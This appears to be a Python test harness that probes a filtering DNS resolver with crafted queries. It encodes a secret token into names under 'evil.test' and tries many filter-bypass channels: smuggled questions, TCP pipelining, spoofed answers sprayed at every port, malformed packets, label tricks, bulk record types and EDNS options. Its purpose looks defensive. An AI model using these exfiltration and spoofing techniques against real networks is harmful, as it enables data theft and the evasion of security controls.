"""Asks a name server in ways that no stub resolver asks, and prints what comes back.

Usage: dns.py TECHNIQUE SERVER

The secret is in $TOKEN. Each line says `TECHNIQUE: ` and the answers' codes with their addresses, or `silence`.
"""

import os
import random
import socket
import struct
import sys

TOKEN = os.environ.get("TOKEN", "")
PATIENCE = 0.7  # seconds that an answer may take; ours come in milliseconds
A, NS, CNAME, NULL, MX, TXT, AAAA, OPT, ANY = 1, 2, 5, 10, 15, 16, 28, 41, 255
CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def labels(name):
    return name if isinstance(name, list) else [label.encode() for label in name.split(".")]


def name_bytes(name):
    return b"".join(bytes([len(label)]) + label for label in labels(name)) + b"\0"


def question(name, kind=A):
    return name_bytes(name) + struct.pack(">HH", kind, 1)


def message(*sections, counts=(1, 0, 0, 0), flags=0x0100, number=None):
    number = random.randrange(65536) if number is None else number
    return struct.pack(">HH4H", number, flags, *counts) + b"".join(sections)


def query(name, kind=A):
    return message(question(name, kind))


def skip_name(data, at):
    while data[at]:
        if data[at] >= 0xC0:
            return at + 2
        at += data[at] + 1
    return at + 1


def describe(data):
    """The answer's code, and its addresses."""
    if len(data) < 12:
        return f"{len(data)} bytes"
    _, flags, questions, answers, _, _ = struct.unpack_from(">6H", data)
    text = CODES.get(flags & 15, str(flags & 15))
    at = 12
    try:
        for _ in range(questions):
            at = skip_name(data, at) + 4
        for _ in range(answers):
            at = skip_name(data, at)
            kind, _, _, length = struct.unpack_from(">HHIH", data, at)
            at += 10
            if kind in (A, AAAA):
                family = socket.AF_INET if kind == A else socket.AF_INET6
                text += " " + socket.inet_ntop(family, data[at:at + length])
            at += length
    except (IndexError, struct.error):
        text += " and then nonsense"
    return text


def datagram_socket(server):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    sender = socket.socket(family, socket.SOCK_DGRAM)
    sender.settimeout(PATIENCE)
    return sender


def by_udp(server, data, port=53):
    with datagram_socket(server) as sender:
        sender.sendto(data, (server, port))
        try:
            return describe(sender.recv(65535))
        except OSError:
            return "silence"


def framed(data):
    return struct.pack(">H", len(data)) + data


def by_tcp(server, segments, expected=1):
    """Sends the segments one by one and reads so many answers."""
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    found = {}
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(PATIENCE)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.connect((server, 53))
        for segment in segments:
            connection.sendall(segment)
        stream = connection.makefile("rb")
        try:
            while len(found) < expected:
                length = stream.read(2)
                if len(length) < 2:
                    break
                data = stream.read(struct.unpack(">H", length)[0])
                # Answers may come in any order (RFC 7766 §7): told apart by number.
                found[struct.unpack_from(">H", data)[0]] = describe(data)
        except OSError:
            pass
    return ", ".join(text for _, text in sorted(found.items())) or "silence"


EVIL = f"{TOKEN}.evil.test"


def say(what, text):
    print(f"{what}: {text}", flush=True)


# --- D1 ---


def over_tcp(server):
    say("evil over TCP", by_tcp(server, [framed(query(EVIL))]))
    say("evil over UDP", by_udp(server, query(EVIL)))
    say("ok over TCP", by_tcp(server, [framed(query("ok.test"))]))
    say("ok over UDP", by_udp(server, query("ok.test")))


# --- D2 ---


def two_questions(server):
    both = question("ok.test") + question(EVIL)
    say("two", by_udp(server, message(both, counts=(2, 0, 0, 0))))
    say("two over TCP", by_tcp(server, [framed(message(both, counts=(2, 0, 0, 0)))]))
    say("hidden", by_udp(server, message(both)))
    record = name_bytes(EVIL) + struct.pack(">HHIH", A, 1, 60, 4) + bytes(4)
    say("as answer", by_udp(server, message(question("ok.test"), record, counts=(1, 1, 0, 0))))
    say("as additional", by_udp(server, message(question("ok.test"), record, counts=(1, 0, 0, 1))))
    say("one", by_udp(server, query("ok.test")))


# --- D3 ---


def pipelined(server):
    def numbered(number, name):
        return framed(message(question(name), number=number))
    both = numbered(1, "ok.test") + numbered(2, EVIL)
    say("in one segment", by_tcp(server, [both], 2))
    three = numbered(1, EVIL) + numbered(2, "ok.test") + numbered(3, f"{TOKEN}.other.test")
    say("evil first", by_tcp(server, [three], 3))
    say("split", by_tcp(server, [both[:20], both[20:37], both[37:]], 2))
    say("both allowed", by_tcp(server, [numbered(1, "ok.test") + numbered(2, "api.ok.test")], 2))


# --- D4 ---


def forged_answer(name, number=None):
    record = name_bytes(name) + struct.pack(">HHIH", A, 1, 3600, 4) + socket.inet_aton("203.0.113.66")
    return message(question(name), record, counts=(1, 1, 0, 0), flags=0x8180, number=number)


def answers(server):
    say("as data", by_udp(server, forged_answer(EVIL)))
    say("of an allowed name", by_udp(server, forged_answer("ok.test")))
    say("over TCP", by_tcp(server, [framed(forged_answer(EVIL))]))
    # Every port of this machine: one of them is where the resolver waits for its own answers.
    with datagram_socket("127.0.0.1") as sender, datagram_socket("127.0.0.1") as asker:
        for number in range(3):
            asker.sendto(query(f"fresh{number}.wild.test"), (server, 53))
            forged = forged_answer(f"fresh{number}.wild.test", number)
            for target in ("127.0.0.1", "192.0.2.10"):
                for port in range(1024 + number, 65536, 3):
                    try:
                        sender.sendto(forged, (target, port))
                    except OSError:
                        pass
    for number in range(3):
        say(f"fresh{number}", by_udp(server, query(f"fresh{number}.wild.test")))
    say("ok", by_udp(server, query("ok.test")))


# --- D5 ---


def malformed(server):
    header = struct.pack(">HH4H", 7, 0x0100, 1, 0, 0, 0)
    secret = TOKEN.encode()
    udp = {
        "no question": message(secret, counts=(0, 0, 0, 0)),
        "empty": b"",
        "half a header": header[:7],
        "cut name": header + question(EVIL)[:9],
        "cut type": header + question("ok.test")[:-3],
        "loop": header + b"\xc0\x0c" + struct.pack(">HH", A, 1),
        "loop behind": header + b"\x02ok\xc0\x0c" + struct.pack(">HH", A, 1),
        "pointer outside": header + b"\xff\xff" + struct.pack(">HH", A, 1),
        "label type": header + b"\x41" + secret + b"\0" + struct.pack(">HH", A, 1),
        "long name": header + (b"\x3f" + b"x" * 63) * 5 + b"\0" + struct.pack(">HH", A, 1),
        "counts": message(question("ok.test"), counts=(1, 65535, 65535, 65535)),
        "other operation": message(question("ok.test"), flags=0x2900),
        "other class": message(name_bytes("ok.test") + struct.pack(">HH", A, 3)),
        "garbage": secret + random.randbytes(900),
    }
    for what, data in udp.items():
        say(what, by_udp(server, data))
    say("64 KiB", by_tcp(server, [b"\xff\xff" + secret + random.randbytes(65535 - len(secret))]))
    say("length without message", by_tcp(server, [b"\xff\xff" + query("ok.test")]))
    say("zero length", by_tcp(server, [b"\0\0" + framed(query("ok.test"))]))
    say("still there", by_udp(server, query("ok.test")))
    say("still there over TCP", by_tcp(server, [framed(query("ok.test"))]))


# --- D6 ---


def strange_labels(server):
    for what, label in {
        "dot": b"www.ok", "nul": b"evil\0ok", "and": b"a&b", "hash": b"a#b", "space": b"a b",
        "high": b"\xff\xfe", "quote": b'a"b', "newline": b"a\nb", "percent": b"%61",
    }.items():
        say(what, by_udp(server, query([label, b"wild", b"test"])))
    # A name that only looks allowed when its labels are written with dots.
    say("one label", by_udp(server, query([b"ok.test"])))
    say("nul behind", by_udp(server, query([b"ok", b"test\0", b"evil", b"test"])))
    say("suffix in a label", by_udp(server, query([TOKEN.encode() + b".wild.test"])))
    say("plain", by_udp(server, query("plain-1.wild.test")))


# --- D7 ---


def bulk_types(server):
    for what, kind in {"TXT": TXT, "NULL": NULL, "CNAME": CNAME, "MX": MX, "ANY": ANY, "private": 65280}.items():
        say(what, by_udp(server, query(f"{TOKEN}.wild.test", kind)))
    say("TXT of a listed name", by_udp(server, query("text.ok.test", TXT)))
    say("A below the wildcard", by_udp(server, query("plain-2.wild.test")))


def bulk_names(server):
    """Data in many names: short ones, so that only their number tells."""
    answered = 0
    with datagram_socket(server) as sender:
        sender.settimeout(3)
        for number in range(700):
            sender.sendto(query(f"d{number:04}.wild.test"), (server, 53))
            answered += describe(sender.recv(4096)).startswith("NOERROR")
    say("many names answered", str(answered))


def long_labels(server):
    answered = 0
    for number in range(30):
        name = f"{number:02}{TOKEN}{TOKEN}"[:60] + ".other-wild.test"
        answered += by_udp(server, query(name)).startswith("NOERROR")
    say("long labels answered", str(answered))
    say("a listed name", by_udp(server, query("ok.test")))


def gone(server):
    """Waits for no answer: the kernel tells the server that nobody is there, and quotes the answer, with the name in it."""
    for _ in range(50):
        with datagram_socket(server) as sender:
            sender.sendto(query(EVIL), (server, 53))
    say("evil", by_udp(server, query(EVIL)))
    say("ok", by_udp(server, query("ok.test")))


# --- D8 ---


def option(code, data):
    return struct.pack(">HH", code, len(data)) + data


def edns(options=b"", size=1232, extended=0):
    return b"\0" + struct.pack(">HHIH", OPT, size, extended, len(options)) + options


def carriers(server):
    secret = TOKEN.encode()
    name = iter(f"api{number}.wild.test" for number in range(100))

    def extended(record, **arguments):
        return by_udp(server, message(question(next(name)), record, counts=(1, 0, 0, 1), **arguments))
    say("option", extended(edns(option(65001, secret))))
    say("padding", extended(edns(option(12, secret + bytes(100)))))
    say("cookie", extended(edns(option(10, secret[:8] + secret[8:24]))))
    say("client subnet", extended(edns(option(8, struct.pack(">HBB", 1, 32, 0) + secret[:4]))))
    say("bits", extended(edns(extended=0x00008000 | 0x1234)))
    say("size", extended(edns(size=0x6361)))
    say("header bits", by_udp(server, message(question(next(name)), flags=0x0170)))
    say("number", by_udp(server, message(question(next(name)), number=0x6361)))
    say("letter case", by_udp(server, query("CaSe.WiLd.TeSt")))
    say("trailing bytes", by_udp(server, query(next(name)) + secret))
    say("plain", by_udp(server, query(next(name))))


{
    "over-tcp": over_tcp,
    "two-questions": two_questions,
    "pipelined": pipelined,
    "answers": answers,
    "malformed": malformed,
    "strange-labels": strange_labels,
    "bulk-types": bulk_types,
    "bulk-names": bulk_names,
    "long-labels": long_labels,
    "gone": gone,
    "carriers": carriers,
}[sys.argv[1]](sys.argv[2])
